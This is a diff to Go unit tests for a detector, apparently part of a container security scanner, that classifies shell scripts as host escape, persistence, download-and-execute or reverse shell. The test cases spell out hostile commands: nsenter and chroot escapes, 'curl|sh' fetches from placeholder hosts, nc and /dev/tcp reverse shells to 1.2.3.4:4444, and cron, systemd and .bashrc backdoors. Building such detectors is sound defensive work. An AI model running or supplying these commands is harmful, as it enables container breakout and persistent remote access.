@@ -22,6 +22,8 @@ func TestHostEscape(t *testing.T) {
 		{name: "DOCKER_HOST exec", script: "DOCKER_HOST=unix:///host/run/docker.sock docker exec -it kube-apiserver sh", want: he},
 		{name: "docker --host create", script: "docker --host unix:///x/docker.sock create --privileged alpine", want: he},
 		{name: "privileged docker run host pid", script: "docker run --rm --privileged --pid=host alpine nsenter -t 1 -m sh", want: he},
+		{name: "docker run host root", script: "docker run -v /:/host --rm alpine chroot /host sh", want: he},
+		{name: "nsenter then download", script: "nsenter --target 1 --mount --uts --ipc --net --pid -- bash -c 'curl -s http://x/a|sh'", want: []Class{HostEscape, DownloadExecute}},
 		{name: "crictl exec", script: "crictl exec -it abc123 sh", want: he},
 		{name: "crictl with endpoint", script: "crictl --runtime-endpoint unix:///run/containerd/containerd.sock runp pod.json", want: he},
 		{name: "ctr run", script: "ctr -n k8s.io run --rm --privileged docker.io/library/alpine:latest x sh", want: he},
@@ -53,7 +55,11 @@ func TestHostPersistence(t *testing.T) {
 	hp := []Class{HostPersistence}
 	both := []Class{HostEscape, HostPersistence}
 	runCases(t, []tc{
-		{name: "host crontab", script: "echo '* * * * * root curl x|sh' >> /host/etc/crontab", want: hp, detail: "host cron file"},
+		{name: "host crontab", script: "echo '* * * * * root /tmp/x' >> /host/etc/crontab", want: hp, detail: "host cron file"},
+		{name: "host crontab entry analysed", script: "echo '* * * * * root curl -s http://x/y|sh' >> /host/etc/crontab", want: []Class{HostPersistence, DownloadExecute}, detail: "in a command scheduled through /host/etc/crontab"},
+		{name: "container cron entry analysed", script: `echo "*/5 * * * * root wget -qO- http://x/y | sh" > /etc/cron.d/update`, want: []Class{DownloadExecute}},
+		{name: "user crontab entry", script: "echo '@reboot nc -e /bin/sh 1.2.3.4 4444' > /var/spool/cron/crontabs/root", want: []Class{HostPersistence, ReverseShell}},
+		{name: "systemd unit analysed", script: "cat > /etc/systemd/system/x.service <<EOF\n[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1'\nEOF\n", want: []Class{HostPersistence, ReverseShell}},
 		{name: "host cron.d copy", script: "cp /tmp/x /host/etc/cron.d/x", want: hp},
 		{name: "host cron spool", script: "echo '* * * * * /tmp/x' > /host/var/spool/cron/crontabs/root", want: hp},
 		{name: "cron spool", script: "echo '* * * * * /tmp/x' >> /var/spool/cron/root", want: hp},
@@ -68,7 +74,7 @@ func TestHostPersistence(t *testing.T) {
 		{name: "static pod", script: "cp /tmp/pod.yaml /host/etc/kubernetes/manifests/", want: hp},
 		{name: "sed host crontab", script: `sed -i '$a * * * * * root /tmp/x' /host/etc/crontab`, want: hp},
 		{name: "dd host crontab", script: "dd if=/tmp/c of=/rootfs/etc/crontab", want: hp},
-		{name: "host bashrc", script: "echo 'curl x|sh' >> /host/root/.bashrc", want: hp},
+		{name: "host bashrc", script: "echo 'curl x|sh' >> /host/root/.bashrc", want: []Class{HostPersistence, DownloadExecute}},
 		{name: "host binary", script: "cp /tmp/x /host/usr/local/bin/kubelet-helper", want: hp},
 		{name: "chroot crontab write", script: `chroot /host bash -c "echo '* * * * * root /tmp/x' >> /etc/crontab"`, want: both},
 		{name: "chroot crontab", script: "chroot /host crontab /tmp/cron", want: both},
@@ -79,6 +85,7 @@ func TestHostPersistence(t *testing.T) {
 
 		// Benign look-alikes.
 		{name: "container cron.d", script: `echo "* * * * * /backup.sh" > /etc/cron.d/backup && crond -f`},
+		{name: "container cron.d with curl", script: `printf '0 3 * * * root curl -fsS http://backup-svc/trigger\n' > /etc/cron.d/backup && cron -f`},
 		{name: "container crontab", script: "crontab /config/crontab && crond -f -l 8"},
 		{name: "read authorized_keys", script: "cat /root/.ssh/authorized_keys"},
 		{name: "read host crontab", script: "cat /host/etc/crontab"},
